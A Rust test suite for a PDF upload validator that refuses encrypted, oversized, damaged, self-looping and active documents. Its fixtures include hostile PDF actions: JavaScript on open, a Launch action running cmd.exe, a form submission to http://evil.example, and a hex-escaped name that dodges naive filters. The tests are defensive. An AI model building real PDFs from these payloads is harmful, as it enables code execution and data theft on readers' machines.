//! Documents that are none, and their bounds.

use bytes::Bytes;
use heqi_registration::attach_document::{AttachDocument, AttachDocumentError, attach_document};
use heqi_registration::fault::{Class, Refusal as _};
use heqi_testkit::files;
use heqi_vocabulary::{DocumentId, Explain as _, FilingId, Language};

use crate::world::World;

async fn attach(
    world: &World,
    filing: FilingId,
    replaces: Option<DocumentId>,
    bytes: impl Into<Bytes>,
) -> Result<DocumentId, AttachDocumentError> {
    let title = "公司章程".parse().unwrap();
    let command = AttachDocument { filing, title, replaces, bytes: bytes.into() };
    let request = world.request(&world.staff);
    attach_document(&world.platform, &request, command).await.map(|attached| attached.document_id)
}

/// The trailer names an encryption dictionary.
fn encrypted() -> Vec<u8> {
    let pdf = String::from_utf8(files::pdf("Secret", 1)).unwrap();
    pdf.replace("/Root 1 0 R>>", "/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>>>")
        .into_bytes()
}

/// An image that says it has 10 thousand million pixels.
fn image_bomb() -> Vec<u8> {
    let objects = [
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<</XObject<</I 4 0 R>>>>>>",
        "<</Type/XObject/Subtype/Image/Width 100000/Height 100000/BitsPerComponent 1/ColorSpace/DeviceGray/Length 0>>stream\n\nendstream",
    ];
    files::with_cross_references(&objects.map(|object| object.as_bytes().to_vec()))
}

/// It would run a script when it is opened.
fn scripted() -> Vec<u8> {
    let pdf = String::from_utf8(files::pdf("Scripted", 1)).unwrap();
    let acting = "/Catalog/OpenAction<</S/JavaScript/JS(1)>>";
    // Offsets move, so the table is made again.
    let objects: Vec<Vec<u8>> = pdf
        .split(" 0 obj\n")
        .skip(1)
        .filter_map(|rest| rest.split("\nendobj").next())
        .map(|object| object.replace("/Catalog", acting).into_bytes())
        .collect();
    files::with_cross_references(&objects)
}

/// A document that does `what` in its catalogue, beside one page.
fn doing(what: &str) -> Vec<u8> {
    let pdf = String::from_utf8(files::pdf("Active", 1)).unwrap();
    // The cross-reference table names bytes: the catalogue keeps its length.
    let catalogue = "<</Type/Catalog/Pages 2 0 R>>";
    let mut document = lopdf::Document::load_mem(pdf.as_bytes()).unwrap();
    assert!(pdf.contains(catalogue));
    let parsed = format!("%PDF-1.7\n1 0 obj\n<<{what}>>\nendobj\n");
    let more = lopdf::Document::load_mem(&closed(&parsed)).unwrap();
    let more = more.get_object((1, 0)).unwrap().as_dict().unwrap().clone();
    let root = document.trailer.get(b"Root").unwrap().as_reference().unwrap();
    let root = document.get_object_mut(root).unwrap().as_dict_mut().unwrap();
    for (key, value) in &more {
        root.set(key.clone(), value.clone());
    }
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).unwrap();
    bytes
}

/// One object with its table and trailer.
fn closed(file: &str) -> Vec<u8> {
    let table = "xref\n0 2\n0000000000 65535 f \n0000000009 00000 n \n";
    let end = format!("{table}trailer\n<</Size 2/Root 1 0 R>>\nstartxref\n{}\n%%EOF\n", file.len());
    [file.as_bytes(), end.as_bytes()].concat()
}

#[tokio::test]
async fn bad_input_a_pdf_with_scripts_or_actions_is_refused_wherever_they_hide() {
    let world = World::new().await;
    let filing = world.open().await;
    let before = world.contents().await;
    for what in [
        "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
        "/AA<</WC<</S/Launch/F(cmd.exe)>>>>",
        "/Names<</JavaScript<</Names[(a) <</S/JavaScript/JS(1)>>]>>>>",
        "/AcroForm<</Fields[]/XFA[(template) (x)]>>",
        "/Outlines[[[<</A<</S/SubmitForm/F(http://evil.example)>>>>]]]",
        "/OpenAction<</S/GoTo/Next<</S/ImportData/F(x)>>>>",
        "/OpenAction<</S/#4aavaScript/J#53(1)>>",
    ] {
        let error = attach(&world, filing, None, doing(what)).await.unwrap_err();
        assert_eq!((error.code(), error.class()), ("document_active", Class::BadInput), "{what}");
        assert_eq!(world.contents().await, before, "{what}");
    }
    // A place to open at, links and plain forms do nothing.
    for harmless in [
        "/OpenAction<</S/GoTo/D[4 0 R/Fit]>>",
        "/AA<<>>/AcroForm<</Fields[]>>",
        "/Outlines<</A<</S/URI/URI(https://example.cn)>>>>",
    ] {
        attach(&world, filing, None, doing(harmless)).await.unwrap();
    }
}

#[tokio::test]
async fn bad_input_a_document_of_2000_pages_is_taken_and_one_page_more_is_not() {
    let world = World::new().await;
    let filing = world.open().await;
    let before = world.contents().await;
    let error = attach(&world, filing, None, files::pdf("Long", 2001)).await.unwrap_err();
    assert_eq!((error.code(), error.class()), ("document_too_long", Class::TooLarge));
    assert_eq!(world.contents().await, before);
    attach(&world, filing, None, files::pdf("Long", 2000)).await.unwrap();
    // A tree of pages that leads into itself has no end, and is not followed to it.
    let round = String::from_utf8(files::pdf("Round", 1)).unwrap();
    let round = round.replace("/Kids[4 0 R]", "/Kids[2 0 R]");
    let error = attach(&world, filing, None, round.into_bytes()).await.unwrap_err();
    assert!(["document_empty", "document_damaged"].contains(&error.code()), "{error}");
}

#[tokio::test]
async fn what_is_not_a_readable_pdf_is_refused_and_nothing_is_kept() {
    let world = World::new().await;
    let filing = world.open().await;
    let before = world.contents().await;
    let whole = files::pdf("Articles", 3);
    let no_page = files::pdf("Articles", 0);
    for (bytes, code, class) in [
        (Vec::new(), "document_not_pdf", Class::WrongFormat),
        (b"<html>%PDF-1.7".to_vec(), "document_not_pdf", Class::WrongFormat),
        (files::photo("x"), "document_not_pdf", Class::WrongFormat),
        (b"%PDF-1.7\n".to_vec(), "document_damaged", Class::BadInput),
        (whole[..whole.len() / 2].to_vec(), "document_damaged", Class::BadInput),
        (no_page, "document_empty", Class::BadInput),
        (encrypted(), "document_encrypted", Class::BadInput),
        (scripted(), "document_active", Class::BadInput),
        (image_bomb(), "document_unfolds", Class::TooLarge),
        (files::pdf("Long", 2001), "document_too_long", Class::TooLarge),
        (vec![b'%'; (20 << 20) + 1], "document_too_large", Class::TooLarge),
    ] {
        let error = attach(&world, filing, None, bytes).await.unwrap_err();
        assert_eq!((error.code(), error.class()), (code, class), "{error}");
        for language in [Language::Zh, Language::En] {
            let said = error.explain(language);
            assert!(!said.what.is_empty() && !said.next.is_empty(), "{code}");
        }
        assert_eq!(world.contents().await, before, "{code}");
    }
    attach(&world, filing, None, whole).await.unwrap();
}

#[tokio::test]
async fn a_refused_document_leaves_no_object_behind() {
    let world = World::new().await;
    let filing = world.open().await;
    let first = attach(&world, filing, None, files::pdf("Articles", 1)).await.unwrap();
    let before = world.contents().await;
    let twice = attach(&world, filing, None, files::pdf("Articles", 1)).await.unwrap_err();
    assert_eq!(twice.class(), Class::Conflict);
    let unknown = Some(DocumentId::from_bytes([1; 16]));
    let nowhere = attach(&world, filing, unknown, files::pdf("New", 1)).await.unwrap_err();
    assert_eq!(nowhere.class(), Class::NotFound);
    assert_eq!(world.contents().await, before);

    let second = attach(&world, filing, Some(first), files::pdf("New", 1)).await.unwrap();
    let again = attach(&world, filing, Some(first), files::pdf("Newer", 1)).await.unwrap_err();
    assert_eq!(again.class(), Class::Conflict);
    assert_ne!(first, second);
}

#[tokio::test]
async fn the_documents_of_a_filing_fit_one_bundle() {
    let world = World::new().await;
    let filing = world.open().await;
    // A comment of 17 MB behind the header keeps the file readable.
    let long = |mark: &str| {
        let pdf = files::pdf(mark, 1);
        let padding = vec![b'x'; 17 << 20];
        let mut document = lopdf::Document::load_mem(&pdf).unwrap();
        document.add_object(lopdf::Stream::new(lopdf::Dictionary::new(), padding));
        let mut bytes = Vec::new();
        document.save_to(&mut bytes).unwrap();
        bytes
    };
    attach(&world, filing, None, long("One")).await.unwrap();
    attach(&world, filing, None, long("Two")).await.unwrap();
    let third = attach(&world, filing, None, long("Three")).await.unwrap_err();
    assert_eq!((third.code(), third.class()), ("documents_too_large", Class::TooLarge));
}
